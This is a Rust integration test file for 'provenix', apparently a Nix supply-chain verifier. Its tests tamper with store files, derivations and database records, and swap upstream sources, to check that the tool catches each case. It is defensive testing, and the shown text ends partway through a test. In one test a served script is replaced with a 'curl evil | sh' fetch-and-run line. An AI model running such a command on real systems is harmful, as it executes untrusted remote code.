//! `provenix sources` and `provenix verify` end to end: real Nix builds in
//! throwaway stores, sources fetched by Nix's own `builtin:fetchurl` from an
//! HTTP server on 127.0.0.1, then each kind of tampering done for real and
//! reported with the right path.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Output};

use provenix_formats::hash::{Hash, HashAlgo};
use provenix_testkit::{HttpServer, NixHarness};
use serde_json::Value;

fn provenix(store: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_provenix")).arg("--store").arg(store).args(args).output().expect("run provenix")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn json(o: &Output) -> Value {
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{}", String::from_utf8_lossy(&o.stdout), stderr(o)))
}

/// `(kind, path, url)` of every finding but `vcs-unpaired` (these tests' sources are not real
/// archives and have no VCS tree; `cli_equiv` tests the pairing).
fn findings(report: &Value) -> BTreeSet<(String, String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] != "vcs-unpaired")
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or_default().to_owned();
            (s("kind"), s("path"), s("url"))
        })
        .collect()
}

fn kinds(report: &Value) -> BTreeSet<String> {
    findings(report).into_iter().map(|(k, _, _)| k).collect()
}

fn sha256_hex(bytes: &[u8]) -> String {
    Hash::compute(HashAlgo::Sha256, bytes).to_base16()
}

/// A source fetched by Nix's `builtin:fetchurl`.
fn fetch(name: &str, url: &str, content: &[u8]) -> String {
    format!(r#"(import <nix/fetchurl.nix> {{ name = "{name}"; url = "{url}"; sha256 = "{}"; }})"#, sha256_hex(content))
}

const SRC: &[u8] = b"the source tarball, version 1.0\n";
const PATCH: &[u8] = b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n";

/// Two fetched sources and an app built from them.
struct Project {
    server: HttpServer,
    expr: String,
}

impl Project {
    fn new() -> Project {
        let server = HttpServer::start();
        server.put("/dist/src-1.0.tar.gz", SRC.to_vec());
        server.put("/patches/fix-CVE-2024-1234.patch", PATCH.to_vec());
        let src = fetch("src-1.0.tar.gz", &server.url("/dist/src-1.0.tar.gz"), SRC);
        let patch = fetch("fix-CVE-2024-1234.patch", &server.url("/patches/fix-CVE-2024-1234.patch"), PATCH);
        let expr = format!(
            r#"derivation {{
  name = "app-1.0"; system = builtins.currentSystem; builder = "/bin/sh";
  src = {src}; patch = {patch};
  args = [ "-c" "cat $src $patch > $out" ];
}}"#
        );
        Project { server, expr }
    }

    fn url(&self, path: &str) -> String {
        self.server.url(path)
    }
}

/// Builds the project; returns (root .drv, app output, source output, patch output, their .drvs).
struct Built {
    drv: String,
    out: String,
    src_drv: String,
    src_out: String,
    patch_drv: String,
    patch_out: String,
}

fn build(h: &NixHarness, project: &Project) -> Built {
    let out = h.build(&project.expr).remove(0);
    let drv = h.instantiate(&project.expr).remove(0);
    let closure = h.run_text("nix-store", ["-qR", &drv]);
    let find = |suffix: &str| closure.lines().find(|l| l.ends_with(suffix)).unwrap().to_owned();
    let src_drv = find("-src-1.0.tar.gz.drv");
    let patch_drv = find("-fix-CVE-2024-1234.patch.drv");
    let src_out = h.run_text("nix-store", ["-q", "--outputs", &src_drv]);
    let patch_out = h.run_text("nix-store", ["-q", "--outputs", &patch_drv]);
    Built { drv, out, src_drv, src_out, patch_drv, patch_out }
}

/// Overwrites a store file, as an attacker with write access to the store would.
fn overwrite(h: &NixHarness, logical: &str, bytes: &[u8]) {
    let file = h.physical(logical);
    let mut perms = std::fs::metadata(&file).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    perms.set_readonly(false);
    std::fs::set_permissions(&file, perms).unwrap();
    std::fs::write(&file, bytes).unwrap();
}

/// Replaces `from` by `to` (same length) in a store file.
fn tamper(h: &NixHarness, logical: &str, from: &str, to: &str) {
    assert_eq!(from.len(), to.len());
    let text = String::from_utf8(std::fs::read(h.physical(logical)).unwrap()).unwrap();
    assert!(text.contains(from), "{from} not in {logical}");
    overwrite(h, logical, text.replace(from, to).as_bytes());
}

#[test]
fn a_clean_closure_verifies_clean_and_refetches_clean() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    let requests_before = project.server.requests("/dist/src-1.0.tar.gz");
    assert_eq!(requests_before, 1, "Nix fetched the source once");

    let o = provenix(h.root(), &["--json", "verify", &b.drv]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report = json(&o);
    // Plain http is the only thing to say about this closure.
    let expected: BTreeSet<(String, String, String)> = [
        ("insecure-url", &b.patch_drv, project.url("/patches/fix-CVE-2024-1234.patch")),
        ("insecure-url", &b.src_drv, project.url("/dist/src-1.0.tar.gz")),
    ]
    .into_iter()
    .map(|(k, p, u)| (k.to_owned(), p.clone(), u))
    .collect();
    assert_eq!(findings(&report), expected, "{report:#}");
    let checked = &report["checked"];
    assert_eq!(checked["derivations"], 3);
    assert_eq!(checked["fods"], 2);
    assert_eq!(checked["realisedOutputs"], 3);
    assert_eq!(checked["outputsRehashed"], 3);
    assert_eq!(checked["outputsPinned"], 0);
    assert_eq!(checked["fodsRehashed"], 2);
    // With --once the two flat sources, matching their sha256, are hashed once.
    let once = json(&provenix(h.root(), &["--json", "verify", "--once", &b.drv]));
    assert_eq!(once["checked"]["outputsRehashed"], 1);
    assert_eq!(once["checked"]["outputsPinned"], 2);
    assert_eq!(findings(&once), findings(&report));
    assert_eq!(report["counts"]["insecure-url"], 2);
    assert_eq!(report["counts"]["drv-path-mismatch"], 0);

    let downloads = h.scratch().join("downloads");
    std::fs::create_dir_all(&downloads).unwrap();
    let o = provenix(h.root(), &["--json", "verify", "--refetch", "--temp-dir", downloads.to_str().unwrap(), &b.drv]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(std::fs::read_dir(&downloads).unwrap().count(), 0, "downloads are removed");
    let report = json(&o);
    assert_eq!(kinds(&report), BTreeSet::from(["insecure-url".to_owned()]), "{report:#}");
    assert_eq!(report["checked"]["fodsRefetched"], 2);
    assert_eq!(report["checked"]["urlsFetched"], 2);
    assert_eq!(report["checked"]["bytesDownloaded"], SRC.len() + PATCH.len());
    assert_eq!(project.server.requests("/dist/src-1.0.tar.gz"), requests_before + 1, "provenix downloaded it again");

    // Warnings fail the run only when asked.
    let o = provenix(h.root(), &["verify", "--fail-on", "warning", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let human = String::from_utf8_lossy(&o.stdout);
    assert!(human.contains("insecure-url") && human.contains("FAILED: 0 errors, 2 warnings"), "{human}");
    assert!(human.contains(&format!("url      {}", project.url("/dist/src-1.0.tar.gz"))), "{human}");
}

#[test]
fn roots_can_be_outputs_result_links_nix_files_and_several_at_once() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    let roots_of = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["--json", "sources"];
        all.extend_from_slice(args);
        let o = provenix(h.root(), &all);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        json(&o)["roots"].as_array().unwrap().iter().map(|r| r.as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(roots_of(&[&b.drv]), std::slice::from_ref(&b.drv));
    // An output path: its deriver from the Nix database.
    assert_eq!(roots_of(&[&b.out]), std::slice::from_ref(&b.drv));
    let physical = h.physical(&b.out);
    assert_eq!(roots_of(&[physical.to_str().unwrap()]), std::slice::from_ref(&b.drv));
    // A `result` symlink to the logical path.
    let link = h.scratch().join("result");
    std::os::unix::fs::symlink(&b.out, &link).unwrap();
    assert_eq!(roots_of(&[link.to_str().unwrap()]), std::slice::from_ref(&b.drv));
    // A Nix file, evaluated by nix-instantiate into this store.
    let file = h.scratch().join("project.nix");
    std::fs::write(&file, &project.expr).unwrap();
    assert_eq!(roots_of(&[file.to_str().unwrap()]), std::slice::from_ref(&b.drv));
    // A symlink to a Nix file, and a `result` link in a directory whose name has a `#`.
    let alias = h.scratch().join("release.nix");
    std::os::unix::fs::symlink(&file, &alias).unwrap();
    assert_eq!(roots_of(&[alias.to_str().unwrap()]), std::slice::from_ref(&b.drv));
    let odd = h.scratch().join("build#2");
    std::fs::create_dir_all(&odd).unwrap();
    std::os::unix::fs::symlink(&b.out, odd.join("result")).unwrap();
    assert_eq!(roots_of(&[odd.join("result").to_str().unwrap()]), std::slice::from_ref(&b.drv));
    // Several roots: each once, in order.
    assert_eq!(roots_of(&[&b.src_drv, &b.drv, &b.out]), [b.src_drv.clone(), b.drv.clone()]);
}

#[test]
fn a_flake_reference_is_a_root() {
    let Some(h) = NixHarness::new() else { return };
    let flake = h.scratch().join("flake");
    std::fs::create_dir_all(&flake).unwrap();
    let system = provenix_testkit::current_system();
    std::fs::write(
        flake.join("flake.nix"),
        format!(
            r#"{{ outputs = {{ self }}: {{ packages.{system}.default = derivation {{
  name = "flaky-src.tar.gz"; system = "{system}"; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
  urls = [ "https://example.org/flaky-src.tar.gz" ];
  outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "{}";
}}; }}; }}"#,
            sha256_hex(b"flaky")
        ),
    )
    .unwrap();
    let reference = format!("path:{}#default", flake.display());
    let o = provenix(h.root(), &["--json", "sources", &reference]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(report["sources"][0]["name"], "flaky-src.tar.gz", "{report:#}");
    assert_eq!(report["sources"][0]["kind"], "tarball");
    assert_eq!(report["sources"][0]["realised"], false);
}

/// The closure of `drv` as `nix show-derivation -r` describes it: the FODs'
/// `.drv` paths and output paths.
fn nix_fods(h: &NixHarness, drv: &str) -> BTreeSet<(String, String)> {
    let shown: Value = serde_json::from_slice(&h.nix(["show-derivation", "-r", drv]).stdout).unwrap();
    shown
        .as_object()
        .unwrap()
        .iter()
        .filter(|(_, d)| d["outputs"]["out"]["hash"].is_string())
        .map(|(p, d)| (p.clone(), d["outputs"]["out"]["path"].as_str().unwrap().to_owned()))
        .collect()
}

#[test]
fn sources_lists_exactly_the_fods_nix_lists() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // On top: an unbuilt recursive FOD behind a mirror, an md5 one without URLs,
    // and a plain package in between.
    let extra = format!(
        r#"let
  system = builtins.currentSystem;
  vendored = derivation {{
    name = "app-1.0-vendor.tar.gz"; inherit system; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
    urls = [ "mirror://gnu/app/app-1.0-vendor.tar.gz" ];
    outputHashAlgo = "sha256"; outputHashMode = "recursive"; outputHash = "{}";
  }};
  old = derivation {{
    name = "old-seed"; inherit system; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
    outputHashAlgo = "md5"; outputHash = "{}";
  }};
  mid = derivation {{ name = "mid"; inherit system; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; inherit vendored; }};
  app = {};
in derivation {{ name = "bundle"; inherit system; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; inherit mid old app; }}"#,
        sha256_hex(b"vendor"),
        Hash::compute(HashAlgo::Md5, b"seed").to_base16(),
        project.expr
    );
    let top = h.instantiate(&extra).remove(0);
    let o = provenix(h.root(), &["--json", "sources", "--why", &top]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report = json(&o);
    let sources = report["sources"].as_array().unwrap();
    let ours: BTreeSet<(String, String)> = sources
        .iter()
        .map(|s| (s["drvPath"].as_str().unwrap().to_owned(), s["outputPath"].as_str().unwrap().to_owned()))
        .collect();
    assert_eq!(ours, nix_fods(&h, &top));
    assert_eq!(ours.len(), 4);

    let by_name = |name: &str| sources.iter().find(|s| s["name"] == name).unwrap();
    let src = by_name("src-1.0.tar.gz");
    assert_eq!(src["kind"], "tarball");
    assert_eq!(src["mode"], "flat");
    assert_eq!(src["hashAlgo"], "sha256");
    assert_eq!(src["hash"], Hash::compute(HashAlgo::Sha256, SRC).to_sri());
    assert_eq!(src["realised"], true);
    let size: u64 = h.run_text("nix-store", ["-q", "--size", &b.src_out]).parse().unwrap();
    assert_eq!(src["narSize"], size);
    assert_eq!(src["urls"][0], project.url("/dist/src-1.0.tar.gz"));
    let why: Vec<&str> = src["why"].as_array().unwrap().iter().map(|p| p.as_str().unwrap()).collect();
    assert_eq!(why, [top.as_str(), b.drv.as_str(), b.src_drv.as_str()]);
    assert_eq!(by_name("fix-CVE-2024-1234.patch")["kind"], "patch");

    let vendored = by_name("app-1.0-vendor.tar.gz");
    assert_eq!(vendored["kind"], "vendor");
    assert_eq!(vendored["mode"], "recursive");
    assert_eq!(vendored["realised"], false);
    assert!(vendored["narSize"].is_null());
    assert_eq!(vendored["resolvedUrls"][0].as_str().unwrap(), "https://ftp.gnu.org/pub/gnu/app/app-1.0-vendor.tar.gz");
    assert_eq!(vendored["why"].as_array().unwrap().len(), 3, "bundle -> mid -> vendored");
    let old = by_name("old-seed");
    assert_eq!(old["hashAlgo"], "md5");
    assert_eq!(old["urls"].as_array().unwrap().len(), 0);

    let summary = &report["summary"];
    assert_eq!(summary["sources"], 4);
    assert_eq!(summary["realised"], 2);
    assert_eq!(summary["byKind"]["tarball"]["count"], 1);

    // CSV: a header and one row per source; the human table ends with the summary.
    let o = provenix(h.root(), &["sources", "--csv", &top]);
    let csv = String::from_utf8(o.stdout).unwrap();
    assert_eq!(csv.lines().count(), 5, "{csv}");
    assert!(csv.starts_with("drv_path,output_path,name,kind,"), "{csv}");
    let o = provenix(h.root(), &["sources", &top]);
    let human = String::from_utf8(o.stdout).unwrap();
    assert!(human.contains("4 fixed-output sources (2 realised, "), "{human}");
    assert!(human.contains("in 7 derivations of 1 root"), "{human}");
    // The biggest sources once more only for their why-chains, not as a second table.
    assert!(human.contains("Why the 2 biggest sources are needed:"), "{human}");
    assert!(human.contains("B  bundle -> app-1.0 -> src-1.0.tar.gz\n"), "{human}");
    let sized = human.lines().filter(|l| l.contains(" 144 B  ")).count();
    assert_eq!(sized, 2, "the source's size once in the table and once by its why-chain:\n{human}");
}

#[test]
fn tampered_store_files_are_reported_with_their_paths() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // A realised source changed in place.
    overwrite(&h, &b.src_out, b"a backdoored source tarball\n");
    // A built output changed in place.
    overwrite(&h, &b.out, b"not what was built\n");
    // A source's .drv edited in place (its URL): the file no longer hashes
    // to its name, while its output path, fixed by the hash, still follows.
    tamper(&h, &b.patch_drv, "/patches/", "/patchez/");

    let o = provenix(h.root(), &["--json", "verify", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let errors: BTreeSet<(String, String)> = findings(&report)
        .into_iter()
        .filter(|(k, _, _)| !["insecure-url"].contains(&k.as_str()))
        .map(|(k, p, _)| (k, p))
        .collect();
    let expected: BTreeSet<(String, String)> = [
        ("drv-path-mismatch", &b.patch_drv),
        ("fod-content-mismatch", &b.src_out),
        ("output-content-mismatch", &b.src_out),
        ("output-content-mismatch", &b.out),
    ]
    .into_iter()
    .map(|(k, p)| (k.to_owned(), p.clone()))
    .collect();
    assert_eq!(errors, expected, "{report:#}");
    let fod = report["findings"].as_array().unwrap().iter().find(|f| f["kind"] == "fod-content-mismatch").unwrap();
    assert_eq!(fod["expected"], Hash::compute(HashAlgo::Sha256, SRC).to_sri());
    assert_eq!(fod["actual"], Hash::compute(HashAlgo::Sha256, b"a backdoored source tarball\n").to_sri());
    // The patch output was not touched.
    assert!(!findings(&report).iter().any(|(_, p, _)| p == &b.patch_out), "{report:#}");

    let human = String::from_utf8(provenix(h.root(), &["verify", &b.drv]).stdout).unwrap();
    assert!(human.contains("FAILED: 4 errors"), "{human}");
}

#[test]
fn an_edited_derivation_breaks_its_output_path() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // Same length, still a valid derivation: only the hashes can tell.
    tamper(&h, &b.drv, "cat $src", "cat $pat");
    let o = provenix(h.root(), &["--json", "verify", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let found = findings(&report);
    assert!(found.contains(&("drv-path-mismatch".into(), b.drv.clone(), String::new())), "{report:#}");
    assert!(found.contains(&("output-path-mismatch".into(), b.drv.clone(), String::new())), "{report:#}");
    let mismatch = report["findings"].as_array().unwrap().iter().find(|f| f["kind"] == "output-path-mismatch").unwrap();
    assert_eq!(mismatch["actual"], b.out.as_str(), "the recorded path");
}

#[test]
fn refetch_reports_what_the_server_serves_now() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // Upstream replaced the tarball, and the patch is gone.
    project.server.put("/dist/src-1.0.tar.gz", b"silently re-rolled tarball\n".to_vec());
    project.server.remove("/patches/fix-CVE-2024-1234.patch");
    let o = provenix(h.root(), &["--json", "verify", "--refetch", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let found = findings(&report);
    assert!(
        found.contains(&("refetch-mismatch".into(), b.src_drv.clone(), project.url("/dist/src-1.0.tar.gz"))),
        "{report:#}"
    );
    assert!(
        found.contains(&(
            "refetch-failed".into(),
            b.patch_drv.clone(),
            project.url("/patches/fix-CVE-2024-1234.patch")
        )),
        "{report:#}"
    );
    let failed = report["findings"].as_array().unwrap().iter().find(|f| f["kind"] == "refetch-failed").unwrap();
    assert!(failed["detail"].as_str().unwrap().contains("404"), "{failed:#}");
    // The store itself is intact.
    assert_eq!(report["counts"]["fod-content-mismatch"], 0);
    assert_eq!(report["counts"]["output-content-mismatch"], 0);
}

#[test]
fn a_stale_hash_after_a_url_change_is_caught_by_refetch() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // The URL is bumped to a new release but the hash is not: Nix never
    // notices, because the output path (fixed by name and hash) is realised.
    project.server.put("/dist/src-1.1.tar.gz", b"the source tarball, version 1.1\n".to_vec());
    let bumped = project.expr.replace("/dist/src-1.0.tar.gz", "/dist/src-1.1.tar.gz");
    let bumped_out = h.build(&bumped).remove(0);
    assert_eq!(bumped_out, b.out, "Nix reuses the stale source");
    let drv = h.instantiate(&bumped).remove(0);
    let o = provenix(h.root(), &["--json", "verify", "--refetch", &drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let mismatches: Vec<&Value> =
        report["findings"].as_array().unwrap().iter().filter(|f| f["kind"] == "refetch-mismatch").collect();
    assert_eq!(mismatches.len(), 1, "{report:#}");
    assert_eq!(mismatches[0]["url"], project.url("/dist/src-1.1.tar.gz"));
    assert!(mismatches[0]["path"].as_str().unwrap().ends_with("-src-1.0.tar.gz.drv"));
    assert_eq!(report["counts"]["fod-content-mismatch"], 0, "the store content is the old, correct one");
}

#[test]
fn hygiene_findings_name_the_derivation() {
    let Some(h) = NixHarness::new() else { return };
    let hex = sha256_hex(b"x");
    let expr = format!(
        r#"let
  system = builtins.currentSystem;
  fod = name: attrs: derivation ({{
    inherit name system; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
    outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "{hex}";
  }} // attrs);
  weak = fod "weak.tar.gz" {{ outputHashAlgo = "md5"; outputHash = "{md5}"; urls = [ "https://example.org/weak.tar.gz" ]; }};
  plain = fod "plain.tar.gz" {{ urls = [ "http://example.org/plain.tar.gz" ]; }};
  nowhere = fod "nowhere.tar.gz" {{ }};
  unknown = fod "unknown.tar.gz" {{ urls = [ "mirror://nosuchmirror/unknown.tar.gz" ]; }};
  escape = derivation {{ name = "escape"; inherit system; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; __noChroot = true; }};
in derivation {{
  name = "top"; inherit system; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
  inherit weak plain nowhere unknown escape;
}}"#,
        md5 = Hash::compute(HashAlgo::Md5, b"x").to_base16()
    );
    let top = h.instantiate(&expr).remove(0);
    let closure = h.run_text("nix-store", ["-qR", &top]);
    let drv = |suffix: &str| closure.lines().find(|l| l.ends_with(suffix)).unwrap().to_owned();
    let o = provenix(h.root(), &["--json", "verify", &top]);
    assert_eq!(o.status.code(), Some(0), "warnings only: {}", stderr(&o));
    let report = json(&o);
    let found = findings(&report);
    let has = |kind: &str, path: &str, url: &str| found.contains(&(kind.to_owned(), path.to_owned(), url.to_owned()));
    assert!(has("weak-hash", &drv("-weak.tar.gz.drv"), ""), "{report:#}");
    assert!(has("insecure-url", &drv("-plain.tar.gz.drv"), "http://example.org/plain.tar.gz"), "{report:#}");
    assert!(has("fod-without-urls", &drv("-nowhere.tar.gz.drv"), ""), "{report:#}");
    assert!(has("unknown-mirror", &drv("-unknown.tar.gz.drv"), ""), "{report:#}");
    assert!(has("no-chroot", &drv("-escape.drv"), ""), "{report:#}");
    assert_eq!(report["counts"]["unrealised-source"], 4, "{report:#}");
    assert_eq!(report["counts"]["weak-hash"], 1);
    assert_eq!(report["counts"]["no-chroot"], 1);

    let o = provenix(h.root(), &["verify", "--fail-on", "warning", &top]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn an_impure_derivation_is_flagged() {
    let Some(h) = NixHarness::new() else { return };
    let file = h.scratch().join("impure.nix");
    std::fs::write(
        &file,
        r#"derivation { name = "impure"; system = builtins.currentSystem; builder = "/bin/sh";
  args = [ "-c" "exit 1" ]; __impure = true; }"#,
    )
    .unwrap();
    let out = h.run(
        "nix-instantiate",
        [
            std::ffi::OsStr::new("--extra-experimental-features"),
            "impure-derivations ca-derivations".as_ref(),
            file.as_os_str(),
        ],
    );
    let drv = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    let o = provenix(h.root(), &["--json", "verify", &drv]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report = json(&o);
    assert!(findings(&report).contains(&("impure".into(), drv.clone(), String::new())), "{report:#}");
}

#[test]
fn bad_input_exits_2_naming_the_culprit() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    let check = |args: &[&str], culprit: &str| {
        let o = provenix(h.root(), args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains(culprit), "{args:?} should name {culprit}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "nothing on stdout");
    };
    let missing = b.out.replace("app-1.0", "app-9.9");
    check(&["verify", &missing], &missing);
    check(&["sources", "/etc/hostname-not-a-root"], "/etc/hostname-not-a-root");
    let bad_db = h.scratch().join("not-a-db.sqlite");
    std::fs::write(&bad_db, b"this is not sqlite").unwrap();
    check(&["--db", bad_db.to_str().unwrap(), "sources", &b.drv], bad_db.to_str().unwrap());
    let mirrors = h.scratch().join("mirrors.txt");
    std::fs::write(&mirrors, "# mine\ngood https://example.org/\nbroken\n").unwrap();
    check(&["sources", "--mirrors", mirrors.to_str().unwrap(), &b.drv], "line 3");
    // A .drv in the closure that no longer parses.
    overwrite(&h, &b.patch_drv, b"Derive([(\"out\"");
    check(&["verify", &b.drv], b.patch_drv.rsplit('/').next().unwrap());
    // A .drv in the closure that is gone.
    std::fs::remove_file(h.physical(&b.patch_drv)).unwrap();
    check(&["sources", &b.drv], b.patch_drv.rsplit('/').next().unwrap());
}

#[test]
fn a_copied_store_without_its_database_still_checks_sources() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // Only the store directory, as from a mounted image: no Nix database.
    let copy = tempfile::tempdir().unwrap();
    provenix_testkit::copy_tree(&h.root().join("nix/store"), &copy.path().join("nix/store"));
    let file = copy.path().join(b.src_out.trim_start_matches('/'));
    std::fs::write(&file, b"swapped on the image\n").unwrap();

    let o = provenix(copy.path(), &["--json", "verify", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(report["checked"]["database"], false);
    assert_eq!(report["checked"]["fodsRehashed"], 2);
    assert_eq!(report["checked"]["outputsRehashed"], 0);
    let errors: Vec<(String, String)> =
        findings(&report).into_iter().filter(|(k, _, _)| k != "insecure-url").map(|(k, p, _)| (k, p)).collect();
    assert_eq!(errors, [("fod-content-mismatch".to_owned(), b.src_out.clone())], "{report:#}");

    let o = provenix(copy.path(), &["--json", "sources", &b.drv]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(report["database"], false);
    assert!(report["sources"].as_array().unwrap().iter().all(|s| s["realised"] == true && s["narSize"].is_null()));
}

#[test]
fn refetch_hashes_recursive_single_files_and_skips_what_it_cannot_reproduce() {
    let Some(h) = NixHarness::new() else { return };
    let server = HttpServer::start();
    let tool = b"#!/bin/sh\necho seed tool\n".to_vec();
    server.put("/bin/seed-tool", tool.clone());
    // `executable = true`: a recursive (NAR) hash over one executable file.
    let nar_hash = {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("seed-tool");
        std::fs::write(&file, &tool).unwrap();
        let out = Command::new("chmod").arg("+x").arg(&file).status().unwrap();
        assert!(out.success());
        let o = Command::new("nix-hash").args(["--type", "sha256"]).arg(&file).output().unwrap();
        String::from_utf8(o.stdout).unwrap().trim().to_owned()
    };
    let expr = format!(
        r#"let
  tool = import <nix/fetchurl.nix> {{ name = "seed-tool"; url = "{}"; sha256 = "{nar_hash}"; executable = true; }};
  unpacked = import <nix/fetchurl.nix> {{ name = "channel"; url = "{}"; sha256 = "{nar_hash}"; unpack = true; }};
  normalised = derivation {{
    name = "fix.patch"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
    urls = [ "{}" ]; postFetch = "filterdiff --clean $out";
    outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "{nar_hash}";
  }};
in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; inherit tool unpacked normalised; }}"#,
        server.url("/bin/seed-tool"),
        server.url("/channel.nar.xz"),
        server.url("/bin/seed-tool")
    );
    // Nix builds the executable source (its hash is right)...
    let top = h.instantiate(&expr).remove(0);
    let closure = h.run_text("nix-store", ["-qR", &top]);
    let tool_drv = closure.lines().find(|l| l.ends_with("-seed-tool.drv")).unwrap().to_owned();
    let channel_drv = closure.lines().find(|l| l.ends_with("-channel.drv")).unwrap().to_owned();
    let patch_drv = closure.lines().find(|l| l.ends_with("-fix.patch.drv")).unwrap().to_owned();
    h.run("nix-store", ["--realise", &tool_drv]);

    let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(report["counts"]["refetch-mismatch"], 0, "{report:#}");
    assert_eq!(report["counts"]["fod-content-mismatch"], 0, "{report:#}");
    assert_eq!(report["checked"]["fodsRefetched"], 1);
    // ...and an unpacking fetch cannot be checked from its download alone.
    assert!(findings(&report).contains(&("refetch-skipped".into(), channel_drv, String::new())), "{report:#}");
    // A flat fetch whose postFetch rewrites the download (fetchpatch) too.
    assert!(findings(&report).contains(&("refetch-skipped".into(), patch_drv.clone(), String::new())), "{report:#}");
    // The advice is a whole command, for the same store.
    let skipped = report["findings"].as_array().unwrap().iter();
    let skipped = skipped.filter(|f| f["kind"] == "refetch-skipped").find(|f| f["path"] == patch_drv.as_str()).unwrap();
    let advice = format!("`nix-store --store {} --realise --check {patch_drv}`", h.root().display());
    assert!(skipped["detail"].as_str().unwrap().ends_with(&advice), "{skipped:#}");

    server.put("/bin/seed-tool", b"#!/bin/sh\ncurl evil | sh\n".to_vec());
    let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    assert!(
        findings(&report).contains(&("refetch-mismatch".into(), tool_drv, server.url("/bin/seed-tool"))),
        "{report:#}"
    );
}

#[test]
fn an_executable_bit_set_on_a_flat_source_is_reported() {
    use std::os::unix::fs::PermissionsExt as _;
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // The bytes still match the declared hash; only the NAR (and the
    // database's hash of it) records the mode.
    std::fs::set_permissions(h.physical(&b.patch_out), std::fs::Permissions::from_mode(0o555)).unwrap();
    let o = provenix(h.root(), &["--json", "verify", "--once", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let errors: BTreeSet<(String, String)> =
        findings(&report).into_iter().filter(|(k, _, _)| k != "insecure-url").map(|(k, p, _)| (k, p)).collect();
    assert_eq!(errors, BTreeSet::from([("output-content-mismatch".to_owned(), b.patch_out.clone())]), "{report:#}");
    assert_eq!(report["checked"]["outputsPinned"], 1, "with --once only the untouched source is pinned");
}

#[test]
fn a_database_hash_record_that_disagrees_with_the_content_is_reported() {
    let Some(h) = NixHarness::new() else { return };
    let project = Project::new();
    let b = build(&h, &project);
    // The content is right (it matches the declared hash); the database's
    // record of its NAR hash is not.
    let db = rusqlite::Connection::open(h.root().join("nix/var/nix/db/db.sqlite")).unwrap();
    let wrong = format!("sha256:{}", Hash::compute(HashAlgo::Sha256, b"another NAR").to_base16());
    let changed = db.execute("UPDATE ValidPaths SET hash = ?1 WHERE path = ?2", [&wrong, &b.src_out]).unwrap();
    assert_eq!(changed, 1);
    drop(db);
    let o = provenix(h.root(), &["--json", "verify", &b.drv]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    let errors: BTreeSet<(String, String)> =
